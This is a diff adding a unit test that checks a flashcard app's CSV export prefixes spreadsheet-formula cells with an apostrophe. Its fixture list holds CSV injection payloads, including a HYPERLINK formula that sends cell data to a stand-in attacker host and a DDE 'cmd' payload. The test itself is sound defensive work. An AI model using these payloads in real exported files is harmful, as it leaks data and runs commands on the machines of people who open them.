@@ -206,6 +206,23 @@ describe("flashcard files", () => {
     ]);
   });
 
+  it("keeps a note's text from running as a spreadsheet formula: such cells start with an apostrophe", () => {
+    const hostile = [
+      '=HYPERLINK("http://evil.example/?"&A1,"click")',
+      "+1+cmd|' /C calc'!A0",
+      "-2+3",
+      "@SUM(1,1)",
+      "\tx",
+    ];
+    const csv = flashcardsCsv(
+      hostile.map((front) => ({ front, back: "b", source_sentence: front, tags: [] })),
+    );
+    const rows = csv.slice(1).split("\r\n").slice(1, -1);
+    // Excel, LibreOffice and Sheets evaluate a cell that starts with = + - @ (or a tab/CR before one).
+    for (const row of rows) expect(row).toMatch(/^"?'/);
+    expect(rows[3]).toBe(`"'@SUM(1,1)",b,"'@SUM(1,1)",`);
+  });
+
   it("packs an .apkg that unzips to Anki's legacy collection and an empty media map", async () => {
     const dir = await mkdtemp(join(tmpdir(), "flashcards-"));
     try {
